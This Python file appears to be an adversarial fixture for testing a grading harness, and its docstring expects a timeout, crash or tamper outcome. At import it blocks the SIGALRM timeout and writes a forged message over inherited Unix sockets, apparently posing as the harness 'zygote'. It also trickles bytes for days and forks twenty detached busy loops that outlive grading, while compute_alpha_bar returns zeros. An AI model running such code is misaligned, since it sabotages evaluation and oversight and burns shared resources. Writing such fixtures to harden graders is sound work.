"""The wire: an order in the name of the zygote, a byte every two seconds for days, and twenty that burn on meanwhile, after the grading too.

expect: compute_alpha_bar timeout|crash|tamper
expect: forward_step timeout|crash|tamper
"""

import os
import signal
import socket
import time

import torch


def compute_alpha_bar(betas):
    return torch.zeros_like(betas)


signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGALRM])
wires = []
for descriptor in range(3, 256):
    try:
        if socket.socket(fileno=os.dup(descriptor)).family == socket.AF_UNIX:
            wires.append(os.dup(descriptor))
    except OSError:
        continue
for _ in range(20):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
for piece in (b"\0\0", b"\x08\0", *[b" "] * (1 << 19)):
    for wire in wires:
        os.write(wire, piece)
    time.sleep(2)
